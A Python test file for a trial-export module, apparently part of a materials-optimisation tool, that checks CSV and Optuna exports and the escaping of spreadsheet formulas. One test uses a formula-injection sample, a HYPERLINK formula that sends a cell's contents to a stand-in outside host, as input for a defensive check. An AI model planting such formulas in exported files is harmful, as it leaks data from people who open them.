"""Exports: other programs read back what was measured."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest

from matloop.orchestrator.errors import MatloopError
from matloop.orchestrator.export import trials as export
from matloop.orchestrator.ledger.history import History
from matloop.orchestrator.ledger.ledger import Ledger
from matloop.orchestrator.trial import Answer, Failure, Objective, Prediction, Proposal

CONFIG = {
    "name": "demo",
    "studies": {
        "search": {"objectives": {"gap": {"direction": "maximise", "unit": "eV"}, "cost": {"direction": "minimise"}}},
    },
}


def answer(**values: float) -> Answer:
    return Answer(values=values, started_at=1000.0, finished_at=1002.5, worker="w:1", info={"steps": 3}, cost=0.5)


@pytest.fixture
def history(tmp_path: Path) -> History:
    with Ledger.open(tmp_path / "ledger.db", config=CONFIG, environment={}) as ledger:
        first = Proposal(
            point={"T": 900, "mix": "a,b", "z": [0.25, -1.5], "on": True, "layers": [{"kind": "conv"}]},
            prediction=Prediction(mean={"gap": 1.0}, std={"gap": 0.1}),
            reason="a guess",
        )
        trial = ledger.propose("search", first, seed=5, ask=0)
        ledger.answer(trial, answer(gap=1.25, cost=2.0))
        trial = ledger.propose("search", Proposal(point={"T": 950.5, "mix": "c"}, parents=(0,)), seed=6, ask=1)
        failure = Failure(cause="timeout", message="too slow")
        ledger.answer(trial, Answer(failure=failure, started_at=1003.0, finished_at=1004.0))
        last = Proposal(point={"T": 800, "mix": "c"}, inputs={"model": "ab12"})
        ledger.propose("search", last, seed=7, ask=2)
        return ledger.history


def test_csv(history: History, tmp_path: Path) -> None:
    file = tmp_path / "sub" / "t.csv"
    assert export.trials_csv(history, file) == 3
    with file.open(newline="", encoding="utf-8") as text:
        rows = list(csv.DictReader(text))
    assert [r["state"] for r in rows] == ["answered", "failed", "running"]
    one = rows[0]
    assert (one["point.T"], one["point.mix"], one["point.z[1]"]) == ("900", "a,b", "-1.5")
    assert json.loads(one["point.layers"]) == [{"kind": "conv"}]
    assert (one["value.gap"], one["predicted.gap"], one["predicted_std.gap"]) == ("1.25", "1.0", "0.1")
    assert (one["info.steps"], one["cost"], one["reason"]) == ("3", "0.5", "a guess")
    assert (rows[1]["cause"], rows[1]["message"], rows[1]["parents"]) == ("timeout", "too slow", "0")
    assert (one["inputs.model"], rows[2]["inputs.model"]) == ("", "ab12")
    header = list(one)
    assert header[0] == "id" and header[-1] == "worker"
    assert header.index("point.T") < header.index("value.gap") < header.index("predicted.gap")


def test_csv_of_one_study_and_of_none(history: History, tmp_path: Path) -> None:
    assert export.trials_csv(history, tmp_path / "t.csv", "search") == 3
    with pytest.raises(MatloopError, match="did you mean 'search'"):
        export.trials_csv(history, tmp_path / "t.csv", "serch")


@pytest.mark.parametrize("kind", ["sqlite", "journal"])
@pytest.mark.filterwarnings("default")
def test_optuna_reads_it_back(kind: str, history: History, tmp_path: Path) -> None:
    import optuna

    url = f"sqlite:///{tmp_path}/o.db" if kind == "sqlite" else str(tmp_path / "o.journal")
    for _ in range(2):  # the second replaces the first
        assert export.to_optuna(history, url) == ["demo/search"]
    with export.optuna_storage(url) as storage:
        study = optuna.load_study(study_name="demo/search", storage=storage)
        assert [d.name for d in study.directions] == ["MAXIMIZE", "MINIMIZE"]
        assert study.metric_names == ["gap (eV)", "cost"]
        done, failed, running = study.get_trials()
        assert [t.state.name for t in (done, failed, running)] == ["COMPLETE", "FAIL", "RUNNING"]
        assert done.values == [1.25, 2.0]
        assert done.params == {"T": 900.0, "mix": "a,b", "z[0]": 0.25, "z[1]": -1.5, "on": True}
        assert done.duration is not None and done.duration.total_seconds() == 2.5
        assert json.loads(done.user_attrs["point"])["layers"] == [{"kind": "conv"}]
        assert done.user_attrs["prediction"] == {"mean": {"gap": 1.0}, "std": {"gap": 0.1}}
        assert failed.user_attrs["failure"] == "timeout: too slow" and failed.user_attrs["parents"] == [0]
        assert [t.number for t in study.best_trials] == [0]


@pytest.mark.filterwarnings("default")
def test_a_study_of_somebody_else_is_not_replaced(history: History, tmp_path: Path) -> None:
    import optuna

    url = f"sqlite:///{tmp_path}/o.db"
    with export.optuna_storage(url) as storage:
        optuna.create_study(storage=storage, study_name="demo/search")
    with pytest.raises(MatloopError, match="that matloop did not write"):
        export.to_optuna(history, url)
    with pytest.raises(MatloopError, match="expected a URL"):
        export.to_optuna(history, "o.db")


def test_objectives_are_those_recorded(history: History) -> None:
    assert export.objectives_of(history, "search") == (Objective("gap", "maximise", "eV"), Objective("cost"))
    assert export.objectives_of(history, "nothing") == ()


def test_what_people_wrote_is_no_formula_in_a_spreadsheet(tmp_path: Path) -> None:
    evil = '=HYPERLINK("http://elsewhere.example/"&A1)'
    with Ledger.open(tmp_path / "ledger.db", config=CONFIG, environment={}) as ledger:
        proposal = Proposal(point={"T": -900.0, "mix": "-"}, extra={"asked_by": "@Ana"})
        trial = ledger.propose("search", proposal, seed=1, ask=0)
        notes = {"note": evil, "drift": -0.5}
        ledger.answer(
            trial, Answer(values={"gap": -1.0, "cost": 2.0}, started_at=0.0, finished_at=1.0, worker="+Ben", info=notes)
        )
        trial = ledger.propose("search", proposal, seed=2, ask=1)
        ledger.answer(
            trial, Answer(failure=Failure(cause="experiment", message="-cracked"), started_at=0.0, finished_at=1.0)
        )
        export.trials_csv(ledger.history, tmp_path / "t.csv")
    with (tmp_path / "t.csv").open(newline="", encoding="utf-8") as text:
        done, failed = csv.DictReader(text)
    assert done["info.note"] == f"'{evil}" and done["worker"] == "'+Ben" and done["extra.asked_by"] == "'@Ana"
    assert failed["message"] == "'-cracked"
    assert (done["point.T"], done["point.mix"], done["value.gap"], done["info.drift"]) == (
        "-900.0",
        "'-",
        "-1.0",
        "-0.5",
    )
